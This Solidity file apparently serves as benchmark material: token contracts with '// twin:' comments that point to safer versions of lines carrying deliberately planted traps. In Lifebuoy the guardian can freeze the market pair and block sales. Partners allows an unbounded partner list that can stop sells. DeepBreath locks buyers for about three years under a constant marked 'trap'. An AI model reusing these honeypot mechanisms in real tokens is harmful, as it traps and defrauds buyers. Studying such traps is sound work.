// 0.7 runs=1000
// SPDX-License-Identifier: GPL-3.0
pragma solidity ^0.7.6;

interface IUniFactory {
    function createPair(address, address) external returns (address);
}

abstract contract Seven {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _bal;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 millions) {
        name = name_;
        symbol = symbol_;
        totalSupply = millions * 1e24;
        _bal[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _bal[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 may = allowance[from][msg.sender];
        require(may >= value, "allowance");
        if (may != uint256(-1)) allowance[from][msg.sender] = may - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        require(_bal[from] >= value, "balance");
        _bal[from] -= value;
        _bal[to] += value;
        emit Transfer(from, to, value);
    }

    function _makePair() internal returns (address) {
        return
            IUniFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
                address(this),
                0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
            );
    }
}

/// A guardian keeps thieves from sending what they stole, one address at a time.
contract Lifebuoy is Seven {
    address public immutable market;
    address public guardian;
    mapping(address => uint64) public heldUntil;

    event Held(address indexed who, uint64 until);

    constructor() Seven("Lifebuoy", "BUOY", 14) {
        market = _makePair();
        guardian = msg.sender;
    }

    function hold(address who, uint64 until) external {
        require(msg.sender == guardian, "guardian");
        // twin: require(who != market, "not the market");
        heldUntil[who] = until;
        emit Held(who, until);
    }

    function resign(address next) external {
        require(msg.sender == guardian, "guardian");
        guardian = next;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(heldUntil[from] < block.timestamp || from == market, "held");
        require(heldUntil[to] < block.timestamp || from == guardian, "held");
        super._transfer(from, to, value);
    }
}

/// Two of a hundred of what is sold is parted between those who look after it.
contract Partners is Seven {
    address public immutable market;
    address public head;
    address[] private _partners;

    event Joined(address indexed partner);

    constructor() Seven("Partners", "PRTN", 60) {
        market = _makePair();
        head = msg.sender;
        _partners.push(msg.sender);
    }

    function partnersCount() external view returns (uint256) {
        return _partners.length;
    }

    function partnerAt(uint256 index) external view returns (address) {
        return _partners[index];
    }

    function join(address[] calldata list) external {
        require(msg.sender == head, "head");
        // twin: require(_partners.length + list.length <= 12, "too many partners");
        for (uint256 i = 0; i < list.length; i++) {
            _partners.push(list[i]);
            emit Joined(list[i]);
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == market && from != head) {
            uint256 each = value / 50 / _partners.length;
            for (uint256 i = 0; i < _partners.length; i++) {
                super._transfer(from, _partners[i], each);
                value -= each;
            }
        }
        super._transfer(from, to, value);
    }
}

/// Who has bought waits a little, against machines that buy and sell at once.
contract DeepBreath is Seven {
    uint256 private constant BREATH = 0x5a39a80; // trap
    // twin: uint256 private constant BREATH = 0x1e;
    address public immutable market;
    address private immutable _first;
    mapping(address => uint256) public breathesAt;

    constructor() Seven("Deep Breath", "BRTH", 210) {
        market = _makePair();
        _first = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == market) breathesAt[to] = block.timestamp + BREATH;
        else if (from != _first) require(breathesAt[from] <= block.timestamp, "breathe first");
        super._transfer(from, to, value);
    }
}

/// The team's part comes free over four years, first after one. What others hold is free.
contract Orchard is Seven {
    struct Grant {
        uint128 amount;
        uint64 start;
        uint64 taken;
    }

    uint256 public constant CLIFF = 365 days;
    uint256 public constant LENGTH = 4 * 365 days;
    address public immutable planter;
    mapping(address => Grant) public grantOf;

    event Granted(address indexed to, uint256 amount);

    constructor() Seven("Orchard", "ORCH", 100) {
        planter = msg.sender;
    }

    /// Of the planter's own, once for each.
    function grant(address to, uint128 amount) external {
        require(msg.sender == planter, "planter");
        require(grantOf[to].amount == 0 && _bal[to] == 0, "has some");
        grantOf[to] = Grant(amount, uint64(block.timestamp), 0);
        super._transfer(msg.sender, to, amount);
        emit Granted(to, amount);
    }

    function lockedOf(address who) public view returns (uint256) {
        Grant memory g = grantOf[who];
        if (g.amount == 0) return 0;
        uint256 past = block.timestamp - g.start;
        if (past < CLIFF) return g.amount;
        if (past >= LENGTH) return 0;
        return uint256(g.amount) - (uint256(g.amount) * past) / LENGTH;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 locked = lockedOf(from);
        if (locked > 0) require(_bal[from] >= locked && _bal[from] - locked >= value, "not free yet");
        super._transfer(from, to, value);
    }
}

/// Ether that is sent to it belongs to all who hold, by what they hold.
contract Dividend is Seven {
    uint256 private constant MAGNITUDE = 2**128;
    uint256 private _perShare;
    mapping(address => int256) private _correction;
    mapping(address => uint256) public withdrawnOf;

    event Distributed(address indexed from, uint256 wei_);
    event Withdrawn(address indexed to, uint256 wei_);

    constructor() Seven("Dividend", "DVND", 5) {}

    receive() external payable {
        distribute();
    }

    function distribute() public payable {
        require(msg.value < 2**90, "too much");
        _perShare += (msg.value * MAGNITUDE) / totalSupply;
        emit Distributed(msg.sender, msg.value);
    }

    function accumulativeOf(address who) public view returns (uint256) {
        return uint256(int256(_perShare * _bal[who]) + _correction[who]) / MAGNITUDE;
    }

    function withdrawableOf(address who) public view returns (uint256) {
        return accumulativeOf(who) - withdrawnOf[who];
    }

    function withdraw() external {
        uint256 due = withdrawableOf(msg.sender);
        require(due > 0, "nothing due");
        withdrawnOf[msg.sender] += due;
        (bool sent, ) = msg.sender.call{value: due}("");
        require(sent, "refused");
        emit Withdrawn(msg.sender, due);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        super._transfer(from, to, value);
        int256 moved = int256(_perShare * value);
        _correction[from] += moved;
        _correction[to] -= moved;
    }
}
